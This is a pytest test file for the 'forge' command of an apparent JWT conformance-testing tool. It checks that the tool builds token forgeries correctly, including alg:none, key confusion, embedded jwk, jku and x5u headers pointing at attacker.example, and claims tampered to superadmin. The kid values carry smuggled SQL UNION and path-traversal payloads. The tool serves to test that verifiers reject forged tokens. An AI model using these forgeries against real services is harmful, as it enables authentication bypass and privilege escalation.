"""``authconform forge``: every forgery has the property it claims (the header says what it should,
the real key rejects it, the key it names verifies it), each recipe the checks record rebuilds the
same token, and bad input is a usage error."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import shlex
from pathlib import Path
from typing import Any

import jwt
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from conformance.attacker_server import AttackerServer
from conformance.attacks import confusion, forging, headers
from conformance.cli import main

REAL_KEY = "the-real-key-of-the-target-0123456789abcdef"
CLAIMS = {"sub": "7", "role": "viewer", "iss": "authconform-reference", "aud": "authconform-api"}
TOKEN = jwt.encode(CLAIMS, REAL_KEY, algorithm="HS256", headers={"kid": "primary"})
DECODE = {"algorithms": ["HS256"], "audience": "authconform-api"}
# Short secrets are what some forgeries are signed with.
pytestmark = pytest.mark.filterwarnings("ignore::jwt.warnings.InsecureKeyLengthWarning")


def forge(capsys: pytest.CaptureFixture[str], *argv: str, token: str = TOKEN) -> str:
    assert main(["forge", argv[0], "--token", token, *argv[1:]]) == 0
    return capsys.readouterr().out.strip()


def segments(token: str) -> tuple[dict[str, Any], dict[str, Any], bytes]:
    head, body, signature = (token.split(".") + [""])[:3]
    unpad = lambda s: base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))  # noqa: E731
    return json.loads(unpad(head)), json.loads(unpad(body)), unpad(signature)


def rejected_by_the_real_key(token: str) -> bool:
    try:
        jwt.decode(token, REAL_KEY, **DECODE)  # type: ignore[arg-type]
    except jwt.PyJWTError:
        return True
    return False


def hmac_verifies(token: str, key: bytes) -> bool:
    signing_input, _dot, signature = token.rpartition(".")
    expected = hmac.new(key, signing_input.encode(), hashlib.sha256).digest()
    return hmac.compare_digest(expected, segments(token)[2]) and bool(signature)


@pytest.mark.parametrize("spelling", forging.NONE_SPELLINGS)
def test_alg_none_has_the_spelling_and_no_signature(capsys: pytest.CaptureFixture[str], spelling: str) -> None:
    forged = forge(capsys, "alg-none", "--alg", spelling)
    header, claims, signature = segments(forged)
    assert header["alg"] == spelling and claims == CLAIMS and forged.endswith(".") and signature == b""
    assert rejected_by_the_real_key(forged)
    assert forge(capsys, "none") == forge(capsys, "alg-none")  # the short name is the same forgery


def test_null_and_broken_signatures_keep_header_and_claims(capsys: pytest.CaptureFixture[str]) -> None:
    head, body, signature = TOKEN.split(".")
    assert forge(capsys, "sig-null") == f"{head}.{body}."
    assert forge(capsys, "sig-null", "--drop-dot") == f"{head}.{body}"
    broken = forge(capsys, "sig-broken")
    assert broken.rsplit(".", 1)[0] == f"{head}.{body}" and broken.rsplit(".", 1)[1] != signature
    for forged in (f"{head}.{body}.", broken):
        assert rejected_by_the_real_key(forged)


@pytest.mark.parametrize(("encoding", "signature"), sorted(forging.PSYCHIC_SIGNATURES.items()))
def test_psychic_signature_is_es256_with_r_and_s_zero(capsys: pytest.CaptureFixture[str], encoding: str,
                                                      signature: bytes) -> None:
    forged = forge(capsys, "psychic", "--encoding", encoding)
    header, claims, raw = segments(forged)
    assert header["alg"] == "ES256" and claims == CLAIMS and raw == signature
    assert rejected_by_the_real_key(forged)


@pytest.fixture(scope="module")
def target_rsa() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def public_pem(key: rsa.RSAPrivateKey) -> bytes:
    return key.public_key().public_bytes(serialization.Encoding.PEM,
                                         serialization.PublicFormat.SubjectPublicKeyInfo)


def test_key_confusion_from_a_pem_file_is_hs256_keyed_with_the_public_key(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, target_rsa: rsa.RSAPrivateKey) -> None:
    pem = tmp_path / "public.pem"
    pem.write_bytes(public_pem(target_rsa))
    forged = forge(capsys, "key-confusion", "--pem", str(pem))
    assert segments(forged)[0]["alg"] == "HS256" and segments(forged)[1] == CLAIMS
    assert hmac_verifies(forged, public_pem(target_rsa))
    with pytest.raises(jwt.PyJWTError):  # a verifier holding to RS256 rejects it
        jwt.decode(forged, public_pem(target_rsa), algorithms=["RS256"], audience="authconform-api")


def test_key_confusion_tries_every_encoding_of_a_published_key(
        capsys: pytest.CaptureFixture[str], target_rsa: rsa.RSAPrivateKey) -> None:
    jwk = {**json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(target_rsa.public_key())), "kid": "rsa-1"}
    jwks = json.dumps({"keys": [{"kty": "oct", "k": "c2VjcmV0"}, jwk]}).encode()
    encodings = confusion.encodings(jwk)
    assert [e.name for e in encodings] == list(confusion.ENCODING_NAMES)
    assert len({e.secret for e in encodings}) == len(encodings)
    with AttackerServer({"/jwks.json": ("application/json", jwks)}, host="127.0.0.1") as server:
        for encoding in encodings:
            forged = forge(capsys, "key-confusion", "--jwks", server.url("/jwks.json"), "--encoding", encoding.name)
            assert hmac_verifies(forged, encoding.secret), encoding.name
            assert segments(forged)[0]["kid"] == "primary"  # the real token's kid is kept


def test_key_confusion_without_an_rsa_key_says_so(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    jwks = tmp_path / "jwks.json"
    jwks.write_text('{"keys": []}')
    assert main(["forge", "key-confusion", "--token", TOKEN, "--jwks", str(jwks)]) == 2
    assert "holds 0 RSA key" in capsys.readouterr().err


@pytest.mark.parametrize("kty", headers.JWK_KINDS)
def test_embedded_jwk_verifies_with_the_key_in_its_own_header(capsys: pytest.CaptureFixture[str], kty: str) -> None:
    forged = forge(capsys, "jwk", "--kty", kty)
    header, claims, _signature = segments(forged)
    assert header["jwk"]["kty"] == {"rsa": "RSA", "ec": "EC", "oct": "oct"}[kty] and claims == CLAIMS
    if kty == "oct":
        key: Any = base64.urlsafe_b64decode(header["jwk"]["k"] + "==")
    else:
        key = jwt.PyJWK(header["jwk"]).key
    assert jwt.decode(forged, key, algorithms=[header["alg"]], audience="authconform-api") == CLAIMS
    assert rejected_by_the_real_key(forged)


def test_jku_points_at_the_url_and_the_saved_key_set_verifies_it(capsys: pytest.CaptureFixture[str],
                                                               tmp_path: Path) -> None:
    out = tmp_path / "jwks.json"
    forged = forge(capsys, "jku", "https://attacker.example/jwks.json", "--out", str(out))
    header = segments(forged)[0]
    assert header["jku"] == "https://attacker.example/jwks.json" and header["alg"] == "RS256"
    key = jwt.PyJWKSet.from_dict(json.loads(out.read_text()))[header["kid"]]
    assert jwt.decode(forged, key.key, algorithms=["RS256"], audience="authconform-api") == CLAIMS
    assert rejected_by_the_real_key(forged)


def test_x5u_points_at_the_url_and_the_saved_certificate_verifies_it(capsys: pytest.CaptureFixture[str],
                                                                   tmp_path: Path) -> None:
    out = tmp_path / "cert.pem"
    forged = forge(capsys, "x5u", "https://attacker.example/cert.pem", "--out", str(out))
    assert segments(forged)[0]["x5u"] == "https://attacker.example/cert.pem"
    public = x509.load_pem_x509_certificate(out.read_bytes()).public_key()
    assert jwt.decode(forged, public, algorithms=["RS256"], audience="authconform-api") == CLAIMS  # type: ignore[arg-type]


def test_kid_injection_carries_the_payload_and_the_key_it_selects(capsys: pytest.CaptureFixture[str]) -> None:
    forged = forge(capsys, "kid", "' UNION SELECT 'attacker-key' --", "--key", "attacker-key")
    assert segments(forged)[0]["kid"] == "' UNION SELECT 'attacker-key' --"
    assert hmac_verifies(forged, b"attacker-key") and rejected_by_the_real_key(forged)
    escaped = forge(capsys, "kid", "../../dev/null\\x00.key", "--key", "", "--escapes")
    assert segments(escaped)[0]["kid"] == "../../dev/null\x00.key" and hmac_verifies(escaped, b"")


def test_claims_tampering_keeps_the_original_signature(capsys: pytest.CaptureFixture[str]) -> None:
    forged = forge(capsys, "claims", "role=superadmin", "sub=8")
    _header, claims, signature = segments(forged)
    assert claims == {**CLAIMS, "role": "superadmin", "sub": 8}
    assert forged.rsplit(".", 1)[1] == TOKEN.rsplit(".", 1)[1] and signature
    assert rejected_by_the_real_key(forged)


def test_resign_with_a_known_key_verifies_with_it(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                target_rsa: rsa.RSAPrivateKey) -> None:
    forged = forge(capsys, "resign", "--key", "super-secret-key", "role=admin")
    assert jwt.decode(forged, "super-secret-key", **DECODE) == {**CLAIMS, "role": "admin"}  # type: ignore[arg-type]
    pem = tmp_path / "leaked.pem"
    pem.write_bytes(target_rsa.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                             serialization.NoEncryption()))
    forged = forge(capsys, "resign", "--key-file", str(pem), "--alg", "RS256")
    assert jwt.decode(forged, target_rsa.public_key(), algorithms=["RS256"], audience="authconform-api") == CLAIMS


def test_crack_prints_a_bundled_secret_and_fails_without_one(capsys: pytest.CaptureFixture[str]) -> None:
    weak = jwt.encode(CLAIMS, "reallyreallyreallyreallyverysafe", algorithm="HS256")
    assert forge(capsys, "crack", token=weak) == "reallyreallyreallyreallyverysafe"
    assert main(["forge", "crack", "--token", TOKEN]) == 1
    assert "not found" in capsys.readouterr().err


@pytest.mark.parametrize("token", ["not-a-token", "a.b.c", ""])
def test_a_token_that_is_no_jwt_is_a_usage_error(capsys: pytest.CaptureFixture[str], token: str) -> None:
    assert main(["forge", "sig-broken", "--token", token]) == 2
    assert "--token is not a JWS compact token" in capsys.readouterr().err


def recipes(target_rsa: rsa.RSAPrivateKey) -> list[forging.Forged]:
    """Forgeries as the checks build them, whose tokens are deterministic."""
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(target_rsa.public_key()))
    payload = headers.KID_PAYLOADS[-1]  # the null byte: the recipe must escape it
    return [
        *(forging.alg_none(TOKEN, spelling) for spelling in forging.NONE_SPELLINGS),
        forging.signature_null(TOKEN), forging.signature_null(TOKEN, drop_dot=True), forging.signature_broken(TOKEN),
        forging.psychic(TOKEN, "der"), forging.tampered(TOKEN, {"role": "superadmin", "sub": 9}),
        forging.resigned(TOKEN, "changeme"), headers.kid_injection(TOKEN, payload.kid, payload.key),
        headers.kid_injection(TOKEN, "../../../../proc/sys/kernel/ostype", b"Linux\n"),
        headers.embedded_jwk(TOKEN, "oct"), headers.embedded_jwk(TOKEN, "rsa"),  # RS256 signs deterministically
        confusion.key_confusion(TOKEN, jwk, confusion.encodings(jwk)[4], source="/tmp/k.pem"),
    ]


def test_each_recorded_recipe_rebuilds_the_same_token(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                      target_rsa: rsa.RSAPrivateKey) -> None:
    (tmp_path / "k.pem").write_bytes(public_pem(target_rsa))
    for forged in recipes(target_rsa):
        line = forged.command().replace("/tmp/k.pem", str(tmp_path / "k.pem"))
        words = shlex.split(line.replace('"$TOKEN"', shlex.quote(TOKEN)))
        assert words[:2] == ["authconform", "forge"], line
        assert main(words[1:]) == 0, line
        assert capsys.readouterr().out.strip() == forged, line


def test_key_confusion_reads_a_jwks_path_on_the_base_url(capsys: pytest.CaptureFixture[str],
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         target_rsa: rsa.RSAPrivateKey) -> None:
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(target_rsa.public_key()))
    with AttackerServer({"/.well-known/jwks.json": ("application/json", json.dumps({"keys": [jwk]}).encode())},
                        host="127.0.0.1") as server:
        monkeypatch.delenv("BASE_URL", raising=False)
        assert main(["forge", "key-confusion", "--token", TOKEN, "--jwks", "/.well-known/jwks.json"]) == 2
        assert "set BASE_URL" in capsys.readouterr().err
        monkeypatch.setenv("BASE_URL", server.url(""))
        forged = forge(capsys, "key-confusion", "--jwks", "/.well-known/jwks.json")
    assert hmac_verifies(forged, public_pem(target_rsa))
